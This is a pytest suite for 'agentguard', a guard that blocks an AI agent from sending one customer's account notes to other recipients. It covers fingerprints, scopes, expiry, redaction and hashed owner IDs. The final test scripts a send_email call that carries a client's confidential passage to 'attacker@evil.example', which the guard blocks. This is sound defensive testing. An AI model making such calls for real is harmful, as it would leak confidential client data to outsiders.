"""The A→B leak guard alone: fingerprints, recipient owners, scopes, expiry, redaction."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from agentguard import ContentBlocked, Guard
from agentguard.clock import ManualClock
from agentguard.layers.leaks import describe_owner
from agentguard.policy import parse_policy
from agentguard.provenance import Fingerprinter, assess

POLICY = """
version: 1
tools:
  read_account:
    input: {customer_id: {type: string}}
    owner: args.customer_id
  read_any:
    input: {key: {type: string}}
    owner: result.owner
  send_email:
    input: {to: {type: string}, body: {type: string}}
    outbound: [body]
    recipient: args.to
  reply_to_customer:
    input: {customer_id: {type: string}, body: {type: string}}
    outbound: [body]
    recipient: args.customer_id
    recipient_owner: args.customer_id
  publish_post:
    input: {text: {type: string}}
    outbound: [text]
roles:
  support:
    allow: [read_account, read_any, send_email, reply_to_customer, publish_post]
agents:
  bot: {roles: [support]}
detectors:
  leaks: {min_words: 12, remember: 2h}
"""

ACCOUNTS = {
    "cust_A": "Account notes: the client is renegotiating the Rotterdam warehouse lease after "
    "two flooded quarters and wants the penalty clause waived. Direct line +1 312 847 2290.",
    "cust_B": "Account notes: the client orders pallets monthly and pays by bank transfer.",
}
A_PASSAGE = "renegotiating the Rotterdam warehouse lease after two flooded quarters and wants"
BOILERPLATE = "Thank you for contacting Acme support, we are always happy to help you today."
DIRECTORY = {"ana@rotterdam-shipping.nl": "cust_A", "ben@pallet-co.test": "cust_B"}


@pytest.fixture
def clock() -> ManualClock:
    return ManualClock()


def _guard(tmp_path: Path, clock: ManualClock, policy: str = POLICY) -> tuple[Guard, list[Any]]:
    guard = Guard(
        parse_policy(policy),
        f"sqlite:///{tmp_path / 'ag.db'}",
        clock=clock,
        owner_resolver=DIRECTORY.get,
    )
    sent: list[Any] = []

    @guard.tool()
    def read_account(customer_id: str) -> str:
        return ACCOUNTS[customer_id] + " " + BOILERPLATE

    @guard.tool()
    def read_any(key: str) -> dict[str, str]:
        return {"owner": key, "notes": ACCOUNTS[key]}

    @guard.tool()
    def send_email(to: str, body: str) -> str:
        sent.append((to, body))
        return "sent"

    @guard.tool()
    def reply_to_customer(customer_id: str, body: str) -> str:
        sent.append((customer_id, body))
        return "sent"

    @guard.tool()
    def publish_post(text: str) -> str:
        sent.append(("public", text))
        return "posted"

    return guard, sent


@pytest.fixture
def world(tmp_path: Path, clock: ManualClock) -> Iterator[tuple[Guard, list[Any]]]:
    guard, sent = _guard(tmp_path, clock)
    yield guard, sent
    guard.close()


def test_a_passage_of_a_data_to_b_is_blocked(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    with pytest.raises(ContentBlocked) as caught:
        agent.call("send_email", to="ben@pallet-co.test", body=f"FYI: the client is {A_PASSAGE}.")
    assert caught.value.code == "leaks.other_owner"
    assert "'cust_A'" in caught.value.message
    assert A_PASSAGE not in str(caught.value)
    assert sent == []


def test_the_same_passage_to_its_own_owner_is_sent(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    agent.call("send_email", to="ana@rotterdam-shipping.nl", body=f"The client is {A_PASSAGE}.")
    assert len(sent) == 1


def test_one_sensitive_value_is_enough_even_reformatted(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    with pytest.raises(ContentBlocked):
        agent.call("send_email", to="ben@pallet-co.test", body="Call (312) 847-2290 about it.")
    assert sent == []


def test_a_short_shared_phrase_is_not_a_leak(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    # six words of A's text (one shingle) are under min_words
    agent.call(
        "send_email", to="ben@pallet-co.test", body="We know about two flooded quarters here."
    )
    assert len(sent) == 1


def test_boilerplate_in_several_owners_data_is_nobodys_secret(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    agent.call("read_account", customer_id="cust_B")
    agent.call("publish_post", text=BOILERPLATE)  # public, but only text both owners share
    assert sent == [("public", BOILERPLATE)]


def test_owned_data_to_a_recipient_with_no_known_owner_is_blocked(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    with pytest.raises(ContentBlocked) as caught:
        agent.call("publish_post", text=f"Our client is {A_PASSAGE}!")
    assert "no known owner" in caught.value.message
    with pytest.raises(ContentBlocked):
        agent.call("send_email", to="stranger@elsewhere.test", body=f"The client is {A_PASSAGE}.")
    assert sent == []


def test_recipient_owner_expression_decides_who_the_recipient_is(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    agent.call("reply_to_customer", customer_id="cust_A", body=f"The client is {A_PASSAGE}.")
    with pytest.raises(ContentBlocked):
        agent.call("reply_to_customer", customer_id="cust_B", body=f"The client is {A_PASSAGE}.")
    assert len(sent) == 1


def test_the_subject_is_the_recipients_owner_when_nothing_else_says(
    tmp_path: Path, clock: ManualClock
) -> None:
    guard, sent = _guard(tmp_path, clock)
    guard.owner_resolver = None
    guard.pipeline = guard._build_pipeline()
    guard.agent("bot").call("read_account", customer_id="cust_A")
    guard.agent("bot", subject="cust_A").call("publish_post", text=f"The client is {A_PASSAGE}.")
    with pytest.raises(ContentBlocked):
        guard.agent("bot", subject="cust_B").call(
            "publish_post", text=f"The client is {A_PASSAGE}."
        )
    assert len(sent) == 1


def test_owner_read_from_the_result(world: Any) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_any", key="cust_A")
    with pytest.raises(ContentBlocked):
        agent.call("send_email", to="ben@pallet-co.test", body=f"The client is {A_PASSAGE}.")
    assert sent == []


def test_sessions_are_separate_scopes(world: Any) -> None:
    guard, sent = world
    guard.agent("bot", session="s1").call("read_account", customer_id="cust_A")
    other = guard.agent("bot", session="s2")
    other.call("send_email", to="ben@pallet-co.test", body=f"The client is {A_PASSAGE}.")
    assert len(sent) == 1


def test_fingerprints_are_forgotten_after_remember(world: Any, clock: ManualClock) -> None:
    guard, sent = world
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    clock.advance(timedelta(hours=2, seconds=1))
    agent.call("send_email", to="ben@pallet-co.test", body=f"The client is {A_PASSAGE}.")
    assert len(sent) == 1


def test_redact_mode_cuts_the_other_owners_data_and_sends_the_rest(
    tmp_path: Path, clock: ManualClock
) -> None:
    policy = POLICY.replace("leaks: {min_words: 12, remember: 2h}", "leaks: {action: redact}")
    guard, sent = _guard(tmp_path, clock, policy)
    agent = guard.agent("bot")
    agent.call("read_account", customer_id="cust_A")
    agent.call(
        "send_email",
        to="ben@pallet-co.test",
        body=f"Hello Ben, your pallets ship Monday. Unrelated: {A_PASSAGE}. Call +1 312 847 2290.",
    )
    [(_, body)] = sent
    assert body.startswith("Hello Ben, your pallets ship Monday.")
    assert "Rotterdam" not in body and "847" not in body
    assert "[WITHHELD: another owner's data]" in body


def test_the_store_holds_no_data_in_clear(world: Any, tmp_path: Path) -> None:
    guard, _ = world
    guard.agent("bot").call("read_account", customer_id="cust_A")
    rows = guard.store._db.execute("SELECT print, owner FROM provenance").fetchall()  # type: ignore[attr-defined]
    assert rows and all(p.startswith(("v:", "p:")) and len(p) == 18 for p, _ in rows)
    assert {o for _, o in rows} == {"cust_A"}


def test_fingerprints_depend_on_the_store_key() -> None:
    one = Fingerprinter(b"k" * 32, ())
    two = Fingerprinter(b"j" * 32, ())
    text = "one two three four five six seven"
    assert set(one.passages(text).prints).isdisjoint(two.passages(text).prints)


def test_assess_counts_covered_words_once() -> None:
    fp = Fingerprinter(b"k" * 32, ())
    text = " ".join(f"w{i}" for i in range(20))
    passages = fp.passages(text)
    owners = {p: frozenset({"A"}) for p in passages.prints}
    [leak] = assess([], passages, owners, frozenset({"B"}), min_words=12)
    assert leak.words == 20
    assert leak.spans[0] == (0, len("w0 w1 w2 w3 w4 w5"))
    assert assess([], passages.head(3), owners, frozenset({"B"}), min_words=12) == []


def test_the_same_passage_gets_the_same_prints_wherever_it_stands() -> None:
    fp = Fingerprinter(b"k" * 32, ())
    passage = "the quarterly figures for the Lyon depot were revised downwards"
    alone = fp.passages(passage).prints
    inside = fp.passages(f"Hello Ben. As discussed: {passage.upper()}! Regards").prints
    assert set(alone) <= set(inside)


@pytest.mark.parametrize(
    ("owner", "shown"),
    [("cust_42", "'cust_42'"), ("acme-corp", "'acme-corp'")],
)
def test_owner_ids_are_shown_when_they_look_like_ids(owner: str, shown: str) -> None:
    assert describe_owner(owner) == shown


@pytest.mark.parametrize("owner", ["ana@rotterdam-shipping.nl", "cust 4556737586899855", "1234567"])
def test_owner_ids_that_may_be_personal_data_are_hashed(owner: str) -> None:
    assert describe_owner(owner).startswith("owner#") and owner not in describe_owner(owner)


def test_an_owner_id_that_is_an_email_address_is_stored_hashed(world: Any) -> None:
    guard, sent = world
    ACCOUNTS["ana@rotterdam-shipping.nl"] = ACCOUNTS["cust_A"]
    try:
        guard.agent("bot").call("read_account", customer_id="ana@rotterdam-shipping.nl")
    finally:
        del ACCOUNTS["ana@rotterdam-shipping.nl"]
    owners = {o for (o,) in guard.store._db.execute("SELECT owner FROM provenance")}  # type: ignore[attr-defined]
    [owner] = owners
    assert owner.startswith("owner#") and "rotterdam" not in owner
    with pytest.raises(ContentBlocked) as caught:
        guard.agent("bot").call(
            "send_email", to="ben@pallet-co.test", body=f"The client is {A_PASSAGE}."
        )
    assert "rotterdam" not in str(caught.value) and owner in str(caught.value)
    assert sent == []


def test_a_recipient_the_resolver_does_not_know_gets_no_owned_data_even_with_a_subject(
    tmp_path: Path, clock: ManualClock
) -> None:
    # The subject says whom the work is for (cust_A), not who receives it: an outside
    # address the resolver does not know must not receive cust_A's data on its strength.
    guard, sent = _guard(tmp_path, clock)
    with guard:
        agent = guard.agent("bot", subject="cust_A")
        agent.call("read_account", customer_id="cust_A")
        with pytest.raises(ContentBlocked) as caught:
            agent.call(
                "send_email", to="attacker@evil.example", body=f"FYI: the client is {A_PASSAGE}."
            )
        assert caught.value.code == "leaks.other_owner"
        assert sent == []
        # the same data to the owner's own known address still goes out
        agent.call(
            "send_email", to="ana@rotterdam-shipping.nl", body=f"FYI: the client is {A_PASSAGE}."
        )
        assert [to for to, _ in sent] == ["ana@rotterdam-shipping.nl"]
